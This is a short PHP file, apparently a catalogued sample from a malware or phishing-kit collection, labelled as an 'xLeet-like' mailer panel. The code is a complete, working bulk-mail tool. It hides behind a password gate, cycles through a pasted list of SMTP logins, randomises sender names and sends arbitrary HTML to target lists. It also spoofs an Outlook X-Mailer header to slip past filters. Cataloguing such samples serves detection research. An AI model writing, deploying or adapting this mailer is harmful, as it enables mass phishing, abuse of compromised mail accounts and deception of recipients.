<?php
/* Family: mailer/kit
   Style: xLeet-like panel with password gate
   Trait: password gate, SMTP rotation list from a textarea, sender name randomised per message */
session_start();
$pass = 'd41d8cd98f00b204e9800998ecf8427e';
if (isset($_POST['p']) && md5($_POST['p']) == $pass) $_SESSION['ok'] = 1;
if (empty($_SESSION['ok'])) { die('<form method=post><input type=password name=p></form>'); }
require_once __DIR__ . '/PHPMailerAutoload.php';
$smtps = explode("\n", trim($_POST['smtp_list']));
$to_list = explode("\n", trim($_POST['to_list']));
$names = explode(',', $_POST['from_names']);
foreach ($to_list as $n => $to) {
	list($h, $p, $u, $pw) = explode('|', trim($smtps[$n % count($smtps)]));
	$m = new PHPMailer;
	$m->isSMTP(); $m->Host = $h; $m->Port = $p; $m->SMTPAuth = true; $m->Username = $u; $m->Password = $pw;
	$m->SMTPSecure = 'tls';
	$m->setFrom($u, trim($names[array_rand($names)]));
	$m->addAddress(trim($to));
	$m->Subject = $_POST['subj'];
	$m->Body = $_POST['html']; $m->isHTML(true);
	$m->XMailer = 'Microsoft Outlook 16.0';
	echo "xLeet :: " . htmlspecialchars($to) . ' ' . ($m->send() ? 'OK' : 'FAIL') . "\n";
}
